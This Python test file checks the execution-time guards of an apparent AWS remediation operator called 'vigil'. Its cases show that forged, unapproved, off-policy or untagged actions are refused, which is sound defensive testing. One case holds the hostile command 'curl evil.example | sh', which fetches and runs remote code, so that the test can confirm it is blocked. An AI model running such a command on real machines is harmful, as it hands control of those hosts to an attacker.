"""The execution-time check (issue 11, finding 1): every guard and every forged input, as a table.

Each case starts from an action the operator proposed, approved by a human, on
tagged targets the current evidence names, and changes one thing: the verdict
must be the Skip reason the case names. These run in milliseconds; the same
refusals are exercised end to end against moto in tests/security/test_actions.py.
"""

from __future__ import annotations

import dataclasses
import datetime
from collections.abc import Callable
from typing import Any

import pytest

from vigil.api.v1alpha1.action import (
    ActionPhase,
    Decision,
    PolicyRef,
    Reason,
    RemediationActionSpec,
    RemediationActionStatus,
    SkipReason,
    Target,
)
from vigil.api.v1alpha1.policy import RemediationPolicySpec
from vigil.domain.remediation import preflight, provenance, tenancy
from vigil.domain.remediation.guards import ActionRecord

NOW = 1_800_000_000.0
KEY = b"0123456789abcdef-test-key"
NS = "shop"
UID = "policy-uid-1"
INCIDENT = "abc123"
I1, I2, I3 = "i-0000000000000000a", "i-0000000000000000b", "i-0000000000000000c"
TAGS = {"vigil.dev/managed": "true", "vigil.dev/namespace": NS}


def _t(epoch: float) -> datetime.datetime:
    return datetime.datetime.fromtimestamp(epoch, tz=datetime.UTC)


def policy_spec(**overrides: Any) -> RemediationPolicySpec:
    body: dict[str, Any] = {
        "detectors": ["cpu"],
        "actions": [{"name": "reboot", "rebootInstances": {"targets": {"fromLabel": "instance_id"}}},
                    {"name": "scale", "scaleAutoScalingGroup": {"name": "web", "by": 2, "min": 1, "max": 10}}],
        "aws": {"region": "us-east-1"},
        "approval": {"required": True},
        "cooldown": "10m",
        "rateLimit": {"maxActions": 2, "window": "1h"},
        "blastRadius": {"maxInstances": 1},
    }
    body.update(overrides)
    return RemediationPolicySpec.model_validate(body)


def action_spec(policy: RemediationPolicySpec, index: int = 0, targets: tuple[str, ...] = (I1,),
                **overrides: Any) -> RemediationActionSpec:
    step = policy.actions[index]
    fields: dict[str, Any] = dict(
        policy_ref=PolicyRef(name="web", uid=UID), incident=INCIDENT, step_index=index, step=step,
        targets=[Target(kind="Instance", id=i, group="web") for i in targets] if step.instance_targets else
        [Target(kind="AutoScalingGroup", id="web")],
        reason=Reason(source="detector", detector="cpu", time=_t(NOW - 120)), dry_run=False,
        approval_required=policy.approval.required, region=policy.aws.region, role_arn=policy.aws.role_arn,
    )
    fields.update(overrides)
    return RemediationActionSpec(**fields)


def approved_status() -> RemediationActionStatus:
    return RemediationActionStatus(phase=ActionPhase.APPROVED, created_at=_t(NOW - 120),
                                   decision=Decision(by="alice", at=_t(NOW - 60), via="annotation"))


@dataclasses.dataclass
class Case:
    policy: RemediationPolicySpec
    spec: RemediationActionSpec
    status: RemediationActionStatus
    annotations: dict[str, str]
    owners: list[dict[str, Any]]
    incident: str | None = INCIDENT
    admin: tenancy.Tenancy = dataclasses.field(default_factory=tenancy.Tenancy)
    key: bytes | None = KEY
    tags: dict[str, dict[str, str]] = dataclasses.field(default_factory=dict)
    series: tuple[dict[str, str], ...] = ({"instance_id": I1},)
    records: list[ActionRecord] = dataclasses.field(default_factory=list)
    others: list[ActionRecord] = dataclasses.field(default_factory=list)
    name: str = "web-abc123-s1"
    sign: bool = True

    def run(self) -> preflight.Verdict:
        annotations = dict(self.annotations)
        if self.sign:
            annotations[provenance.ANNOTATION] = provenance.sign(KEY, NS, self.name, self.spec.to_wire())
        view = preflight.ActionView(NS, self.name, self.spec.incident, self.spec, self.status, annotations,
                                    self.owners, NOW - 120)
        policy = preflight.PolicyView(NS, UID, self.policy, self.incident)
        observed = preflight.Observed(tags=self.tags, groups={i: "web" for i in self.tags if i.startswith("i-")},
                                      group_sizes={"web": 4})
        return preflight.check(view, policy, self.admin, self.key, observed, self.series, self.records,
                               self.records + self.others, NOW)


def base() -> Case:
    policy = policy_spec()
    return Case(policy=policy, spec=action_spec(policy), status=approved_status(),
                annotations={"vigil.dev/approve": "true"},
                owners=[{"kind": "RemediationPolicy", "uid": UID, "controller": True, "name": "web"}],
                tags={I1: dict(TAGS), I2: dict(TAGS), "web": dict(TAGS)})


def record(name: str, phase: ActionPhase, incident: str = INCIDENT, step: int = 0, created: float = NOW - 300,
           completed: float | None = None, instances: tuple[tuple[str, str | None], ...] = ()) -> ActionRecord:
    return ActionRecord(name, incident, step, phase, created, completed, instances)


def test_the_base_case_proceeds() -> None:
    verdict = base().run()
    assert isinstance(verdict, preflight.Proceed), verdict
    assert [t.id for t in verdict.targets] == [I1] and not verdict.remarks


def _forge_unsigned(c: Case) -> None:
    c.sign = False


def _forge_other_key(c: Case) -> None:
    c.sign = False
    c.annotations[provenance.ANNOTATION] = provenance.sign(b"someone-elses-key-000", NS, c.name, c.spec.to_wire())


def _forge_plain_digest(c: Case) -> None:
    c.sign = False
    c.annotations[provenance.ANNOTATION] = provenance.sign(None, NS, c.name, c.spec.to_wire())


def _forge_owner(c: Case) -> None:
    c.owners = [{"kind": "RemediationPolicy", "uid": "another-uid", "controller": True}]


def _forge_no_owner(c: Case) -> None:
    c.owners = []


def _forge_policy_ref(c: Case) -> None:
    c.spec = c.spec.model_copy(update={"policy_ref": PolicyRef(name="web", uid="old-uid")})


def _forge_spec_after_signing(c: Case) -> None:
    signed = c.spec
    c.spec = c.spec.model_copy(update={"targets": [Target(kind="Instance", id=I2, group="web")]})
    c.sign = False
    c.annotations[provenance.ANNOTATION] = provenance.sign(KEY, NS, c.name, signed.to_wire())


def _step_changed(c: Case) -> None:
    c.policy = policy_spec(actions=[
        {"name": "reboot", "runCommand": {"commands": ["true"], "targets": {"fromLabel": "instance_id"}}}])


def _step_removed(c: Case) -> None:
    c.spec = action_spec(c.policy, index=1)
    c.policy = policy_spec(actions=[c.policy.actions[0].to_wire()])


def _role_changed(c: Case) -> None:
    c.policy = policy_spec(aws={"region": "us-east-1", "roleArn": "arn:aws:iam::111122223333:role/x"})


def _step_already_taken(c: Case) -> None:
    c.records = [record("web-abc123-s1-other", ActionPhase.SUCCEEDED, completed=NOW - 200)]


def _incident_ended(c: Case) -> None:
    c.incident = None


def _other_incident(c: Case) -> None:
    c.incident = "zzz999"


def _approved_by_policy(c: Case) -> None:
    c.status = c.status.model_copy(update={"decision": Decision(by="policy", at=_t(NOW - 100), via="policy")})


def _spec_says_no_approval(c: Case) -> None:
    """The finding: approvalRequired false on a policy that requires approval."""
    c.spec = action_spec(c.policy, approval_required=False)
    c.status = c.status.model_copy(update={"decision": Decision(by="policy", at=_t(NOW - 100), via="policy")})


def _approval_predates_proposal(c: Case) -> None:
    c.status = c.status.model_copy(update={"decision": Decision(by="alice", at=_t(NOW - 3600), via="annotation")})


def _approval_annotation_removed(c: Case) -> None:
    c.annotations.pop("vigil.dev/approve")


def _rejected_later(c: Case) -> None:
    c.annotations["vigil.dev/reject"] = "true"


def _role_not_allowed(c: Case) -> None:
    arn = "arn:aws:iam::111122223333:role/admin"
    c.policy = policy_spec(aws={"region": "us-east-1", "roleArn": arn})
    c.spec = action_spec(c.policy)


def _powershell(c: Case) -> None:
    c.policy = policy_spec(actions=[{"name": "reboot", "runCommand": {
        "documentName": "AWS-RunPowerShellScript", "commands": ["Restart-Computer"],
        "targets": {"fromLabel": "instance_id"}}}])
    c.spec = action_spec(c.policy)


def _long_timeout(c: Case) -> None:
    c.policy = policy_spec(actions=[{"name": "reboot", "runCommand": {
        "commands": ["true"], "timeoutSeconds": 172800, "targets": {"fromLabel": "instance_id"}}}])
    c.spec = action_spec(c.policy)


def _command_not_allowed(c: Case) -> None:
    c.policy = policy_spec(actions=[{"name": "reboot", "runCommand": {
        "commands": ["curl evil.example | sh"], "targets": {"fromLabel": "instance_id"}}}])
    c.spec = action_spec(c.policy)
    c.admin = tenancy.Tenancy(ssm_command_patterns=(r"systemctl restart [a-z-]+",))


def _untagged_instance(c: Case) -> None:
    c.tags[I1] = {"vigil.dev/managed": "true"}


def _other_namespace_instance(c: Case) -> None:
    c.tags[I1] = {"vigil.dev/managed": "true", "vigil.dev/namespace": "team-a"}


def _untagged_group(c: Case) -> None:
    c.spec = action_spec(c.policy, index=1)
    c.records = [record("web-abc123-s1", ActionPhase.SUCCEEDED, completed=NOW - 200)]
    c.tags["web"] = {}


def _group_gone(c: Case) -> None:
    c.spec = action_spec(c.policy, index=1)
    c.records = [record("web-abc123-s1", ActionPhase.SUCCEEDED, completed=NOW - 200)]
    del c.tags["web"]


def _instance_not_in_evidence(c: Case) -> None:
    c.series = ({"instance_id": I2},)


def _evidence_cleared(c: Case) -> None:
    c.series = ()


def _forged_target(c: Case) -> None:
    """A target the evidence never named (here: signed, to show the evidence check stands alone)."""
    c.spec = action_spec(c.policy, targets=(I3,))
    c.tags[I3] = dict(TAGS)


def _cooldown(c: Case) -> None:
    c.records = [record("web-old-s1", ActionPhase.SUCCEEDED, incident="old", created=NOW - 900,
                        completed=NOW - 300)]


def _rate_limited(c: Case) -> None:
    c.policy = policy_spec(cooldown="0s")
    c.spec = action_spec(c.policy)
    c.records = [record(f"web-old{k}-s1", ActionPhase.SUCCEEDED, incident=f"old{k}", created=NOW - 1000 - k,
                        completed=NOW - 900) for k in range(2)]


def _blast_radius(c: Case) -> None:
    c.others = [record("other-policy-x-s1", ActionPhase.EXECUTING, incident="x", instances=((I2, "web"),))]


CASES: dict[str, tuple[Callable[[Case], None], SkipReason]] = {
    "unsigned": (_forge_unsigned, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "signed with another key": (_forge_other_key, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "plain digest while the operator has a key": (_forge_plain_digest, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "owned by another policy uid": (_forge_owner, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "no owner": (_forge_no_owner, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "policyRef of a deleted policy": (_forge_policy_ref, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "spec changed after signing": (_forge_spec_after_signing, SkipReason.NOT_PROPOSED_BY_OPERATOR),
    "step changed in the policy": (_step_changed, SkipReason.POLICY_CHANGED),
    "step removed from the policy": (_step_removed, SkipReason.POLICY_CHANGED),
    "role changed in the policy": (_role_changed, SkipReason.POLICY_CHANGED),
    "step already taken in this incident": (_step_already_taken, SkipReason.POLICY_CHANGED),
    "incident ended": (_incident_ended, SkipReason.INCIDENT_ENDED),
    "another incident is open": (_other_incident, SkipReason.INCIDENT_ENDED),
    "approved by policy while the policy requires a human": (_approved_by_policy, SkipReason.NOT_APPROVED),
    "approvalRequired false on an approval policy": (_spec_says_no_approval, SkipReason.NOT_APPROVED),
    "approval predates the proposal": (_approval_predates_proposal, SkipReason.NOT_APPROVED),
    "approval annotation removed": (_approval_annotation_removed, SkipReason.NOT_APPROVED),
    "rejected after approval": (_rejected_later, SkipReason.NOT_APPROVED),
    "role not allowed for the namespace": (_role_not_allowed, SkipReason.NOT_PERMITTED),
    "SSM document not allowed": (_powershell, SkipReason.NOT_PERMITTED),
    "SSM timeout over the limit": (_long_timeout, SkipReason.NOT_PERMITTED),
    "SSM command outside the patterns": (_command_not_allowed, SkipReason.NOT_PERMITTED),
    "instance lacks the namespace tag": (_untagged_instance, SkipReason.TARGET_NOT_MANAGED),
    "instance of another namespace": (_other_namespace_instance, SkipReason.TARGET_NOT_MANAGED),
    "group lacks the guard tag": (_untagged_group, SkipReason.TARGET_NOT_MANAGED),
    "group not found": (_group_gone, SkipReason.NOT_FOUND),
    "instance no longer in the evidence": (_instance_not_in_evidence, SkipReason.NO_TARGETS),
    "evidence cleared": (_evidence_cleared, SkipReason.NO_TARGETS),
    "target never named by the evidence": (_forged_target, SkipReason.NO_TARGETS),
    "cooldown after another incident": (_cooldown, SkipReason.COOLDOWN_ACTIVE),
    "rate limit reached": (_rate_limited, SkipReason.RATE_LIMITED),
    "blast radius taken by another policy": (_blast_radius, SkipReason.BLAST_RADIUS_EXCEEDED),
}


@pytest.mark.parametrize("change", list(CASES), ids=list(CASES))
def test_each_guard_refuses_at_the_moment_of_the_call(change: str) -> None:
    mutate, reason = CASES[change]
    case = base()
    mutate(case)
    verdict = case.run()
    assert isinstance(verdict, preflight.Refuse), f"{change}: {verdict}"
    assert verdict.reason == reason, f"{change}: {verdict}"


def test_without_a_key_a_plain_digest_is_accepted_and_a_wrong_one_is_not() -> None:
    """No key: the mark only detects tampering (the admission policy is what keeps forgers out)."""
    case = base()
    case.key, case.sign = None, False
    case.annotations[provenance.ANNOTATION] = provenance.sign(None, NS, case.name, case.spec.to_wire())
    assert isinstance(case.run(), preflight.Proceed)
    case.annotations[provenance.ANNOTATION] = "sha256:" + "0" * 64
    assert isinstance(case.run(), preflight.Refuse)


def test_a_scale_step_of_the_ladder_proceeds_on_a_tagged_group() -> None:
    case = base()
    case.spec = action_spec(case.policy, index=1)
    case.records = [record("web-abc123-s1", ActionPhase.SUCCEEDED, completed=NOW - 200)]
    verdict = case.run()
    assert isinstance(verdict, preflight.Proceed) and [t.id for t in verdict.targets] == ["web"]


def test_targets_outside_the_evidence_are_dropped_and_said() -> None:
    case = base()
    case.spec = action_spec(case.policy, targets=(I1, I2))
    case.policy = policy_spec(blastRadius=None)
    case.spec = action_spec(case.policy, targets=(I1, I2))
    verdict = case.run()
    assert isinstance(verdict, preflight.Proceed)
    assert [t.id for t in verdict.targets] == [I1]
    assert any(I2 in r and "evidence" in r for r in verdict.remarks)


def test_no_approval_needed_when_neither_policy_nor_action_asks() -> None:
    case = base()
    case.policy = policy_spec(approval={"required": False})
    case.spec = action_spec(case.policy)
    case.status = case.status.model_copy(update={"decision": Decision(by="policy", at=_t(NOW), via="policy")})
    case.annotations = {}
    assert isinstance(case.run(), preflight.Proceed)


def test_a_role_the_admin_allows_passes() -> None:
    arn = "arn:aws:iam::111122223333:role/vigil-shop"
    case = base()
    case.policy = policy_spec(aws={"region": "us-east-1", "roleArn": arn})
    case.spec = action_spec(case.policy)
    case.admin = tenancy.Tenancy(role_arns={NS: ("arn:aws:iam::111122223333:role/vigil-*",)})
    assert isinstance(case.run(), preflight.Proceed)
    case.admin = tenancy.Tenancy(role_arns={"team-a": ("arn:aws:iam::111122223333:role/vigil-*",)})
    assert isinstance(case.run(), preflight.Refuse)


def test_the_namespace_tag_can_be_turned_off_by_the_admin_only() -> None:
    case = base()
    case.tags[I1] = {"vigil.dev/managed": "true"}
    assert isinstance(case.run(), preflight.Refuse)
    case.admin = tenancy.Tenancy(namespace_tag_key="")
    assert isinstance(case.run(), preflight.Proceed)
    # A policy's own targetGuard adds a requirement; it never replaces the admin's.
    case.policy = policy_spec(targetGuard={"tagKey": "team", "tagValue": "shop"})
    case.spec = action_spec(case.policy)
    verdict = case.run()
    assert isinstance(verdict, preflight.Refuse) and "team=shop" in verdict.message


def test_parse_role_arns_and_tags() -> None:
    assert tenancy.parse_role_arns(["shop=arn:a,arn:b", "*=arn:c"]) == {"shop": ("arn:a", "arn:b"), "*": ("arn:c",)}
    with pytest.raises(ValueError):
        tenancy.parse_role_arns(["no-equals"])
    assert tenancy.parse_tag("k=v") == ("k", "v")
    with pytest.raises(ValueError):
        tenancy.parse_tag("=v")


def test_registering_again_needs_the_operators_action_and_tagged_resources() -> None:
    arn = "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/0123456789abcdef"
    policy = policy_spec(actions=[{"name": "drain", "deregisterTarget": {
        "targetGroupArn": arn, "targets": {"fromLabel": "instance_id"}, "reregisterAfter": "5m"}}])
    spec = action_spec(policy)

    def verdict(tags: dict[str, dict[str, str]], sign: bool = True) -> str | None:
        annotations = {provenance.ANNOTATION: provenance.sign(KEY, NS, "web-abc123-s1", spec.to_wire())} if sign \
            else {}
        view = preflight.ActionView(NS, "web-abc123-s1", INCIDENT, spec, approved_status(), annotations,
                                    [{"kind": "RemediationPolicy", "uid": UID, "controller": True}], NOW - 120)
        return preflight.check_reregister(view, preflight.PolicyView(NS, UID, policy, None), tenancy.Tenancy(), KEY,
                                          preflight.Observed(tags=tags))
    assert verdict({arn: dict(TAGS), I1: dict(TAGS)}) is None
    assert "not proposed by the operator" in (verdict({arn: dict(TAGS), I1: dict(TAGS)}, sign=False) or "")
    assert "lacks tag vigil.dev/namespace=shop" in (verdict({arn: {"vigil.dev/managed": "true"}, I1: dict(TAGS)})
                                                     or "")
